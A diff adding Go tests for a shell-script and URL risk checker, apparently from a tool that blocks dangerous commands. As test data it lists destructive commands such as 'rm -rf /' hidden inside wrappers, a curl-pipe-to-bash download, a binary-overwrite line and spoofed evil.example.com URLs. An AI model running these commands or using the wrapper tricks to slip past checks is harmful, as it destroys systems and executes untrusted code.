@@ -0,0 +1,75 @@
+package main
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestAssessScriptRisk(t *testing.T) {
+	tests := []struct {
+		name   string
+		script string
+		want   string
+	}{
+		{name: "package upgrade", script: "pip install requests==2.32.0", want: RiskSafe},
+		{name: "npm install", script: "npm install lodash@4.17.21", want: RiskSafe},
+		{name: "recursive delete", script: "rm -rf /", want: RiskDangerous},
+		{name: "xargs", script: "echo / | xargs rm -rf", want: RiskDangerous},
+		{name: "xargs with options", script: "echo / | xargs -n 1 -I {} rm -rf {}", want: RiskDangerous},
+		{name: "timeout", script: "timeout 10 rm -rf /", want: RiskDangerous},
+		{name: "timeout with signal", script: "timeout -s KILL 10 rm -rf /", want: RiskDangerous},
+		{name: "nice", script: "nice -n 10 rm -rf /", want: RiskDangerous},
+		{name: "nohup shell", script: "nohup sh -c 'rm -rf /'", want: RiskDangerous},
+		{name: "bash inline", script: `bash -lc "cp payload /usr/bin/ls"`, want: RiskDangerous},
+		{name: "busybox", script: "busybox rm -rf /", want: RiskDangerous},
+		{name: "busybox shell", script: "busybox sh -c 'rm -rf /'", want: RiskDangerous},
+		{name: "env split string", script: `env -S "rm -rf /"`, want: RiskDangerous},
+		{name: "find delete", script: "find / -delete", want: RiskDangerous},
+		{name: "find exec", script: `find / -name '*.conf' -exec rm {} \;`, want: RiskDangerous},
+		{name: "find exec through a shell", script: `find . -exec sh -c 'rm -rf /' \;`, want: RiskDangerous},
+		{name: "find delete in the project", script: "find . -name '*.pyc' -delete", want: RiskReview},
+		{name: "sudo", script: "sudo apt-get install openssl", want: RiskDangerous},
+		{name: "sudo with user", script: "sudo -u root rm -rf /", want: RiskDangerous},
+		{name: "su", script: "su -c 'apt-get install openssl'", want: RiskDangerous},
+		{name: "download piped through a wrapper", script: "curl https://example.com/x.sh | nohup bash", want: RiskDangerous},
+		{name: "sed in place outside the project", script: "sed -i 's/a/b/' /etc/hosts", want: RiskDangerous},
+		{name: "sed grouped in place option", script: "sed -Ei.bak -e 's/a/b/' /etc/hosts", want: RiskDangerous},
+		{name: "sed reading outside the project", script: "sed -n 's/a/b/p' /etc/hosts", want: RiskReview},
+		{name: "sed in place in the project", script: "sed -i 's/1.0/2.0/' requirements.txt", want: RiskReview},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			assessment := assessScript(tt.script)
+			if assessment.Risk != tt.want {
+				t.Errorf("expected %s, got %s: %+v", tt.want, assessment.Risk, assessment.Commands)
+			}
+			if tt.want == RiskDangerous && !strings.HasPrefix(assessment.SafeScript, "# BLOCKED: ") {
+				t.Errorf("expected the command to be blocked, got %q", assessment.SafeScript)
+			}
+		})
+	}
+}
+
+func TestCheckURLs(t *testing.T) {
+	tests := []struct {
+		name string
+		text string
+		want string
+	}{
+		{name: "registry", text: "https://pypi.org/simple/requests", want: RiskSafe},
+		{name: "vcs scheme", text: "git+https://pypi.org/project/requests.git", want: RiskSafe},
+		{name: "vcs scheme to another host", text: "git+https://evil.example.com/requests.git", want: RiskDangerous},
+		{name: "plus in the path", text: "https://evil.example.com/a+b", want: RiskDangerous},
+		{name: "plus in the user info", text: "https://pypi.org+x@evil.example.com/pkg", want: RiskDangerous},
+		{name: "plus in the query", text: "https://files.pythonhosted.org/pkg?v=1+local", want: RiskSafe},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			c := &CommandAssessment{Risk: RiskSafe}
+			checkURLs(c, tt.text)
+			if c.Risk != tt.want {
+				t.Errorf("expected %s, got %s: %v", tt.want, c.Risk, c.Reasons)
+			}
+		})
+	}
+}